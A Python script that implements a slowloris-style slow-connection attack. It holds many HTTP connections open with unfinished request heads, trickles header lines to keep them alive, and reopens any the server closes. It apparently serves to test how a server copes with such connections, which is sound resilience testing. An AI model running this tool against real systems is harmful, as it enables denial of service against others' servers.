#!/usr/bin/env python3
"""Holds N slow connections open to a server, as a slowloris attack does: each sends the
start of a request head and then one more header line every few seconds, never finishing
it. A connection the server closes is opened again at once. Prints, every 5 s, how many are
open and how many the server has closed so far.
usage: slow_connections.py HOST PORT N SECONDS"""
import selectors
import socket
import sys
import time

host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
sel = selectors.DefaultSelector()
opened = closed = refused = 0


def open_one():
    global opened, refused
    s = socket.socket()
    s.setblocking(False)
    try:
        s.connect_ex((host, port))
        sel.register(s, selectors.EVENT_READ, time.monotonic())
        opened += 1
    except OSError:
        refused += 1
        s.close()


def send(s, data):
    try:
        s.send(data)
        return True
    except OSError:
        return False


for _ in range(n):
    open_one()
time.sleep(0.2)
for key in list(sel.get_map().values()):
    send(key.fileobj, b"GET /day HTTP/1.1\r\nHost: x\r\n")
end = time.monotonic() + seconds
last_trickle = last_report = time.monotonic()
while time.monotonic() < end:
    for key, _ in sel.select(timeout=0.5):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if not data:  # closed by the server (or an answer then a close)
            sel.unregister(s)
            s.close()
            closed += 1
            open_one()
    now = time.monotonic()
    if now - last_trickle >= 3:
        for key in list(sel.get_map().values()):
            if not send(key.fileobj, b"X-a: b\r\n"):
                sel.unregister(key.fileobj)
                key.fileobj.close()
                closed += 1
                open_one()
        last_trickle = now
    if now - last_report >= 5:
        print(f"slow connections: {len(sel.get_map())} open, {closed} closed by the server so far", flush=True)
        last_report = now
print(f"slow connections: {len(sel.get_map())} open at the end; opened {opened}, closed by the server {closed}", flush=True)
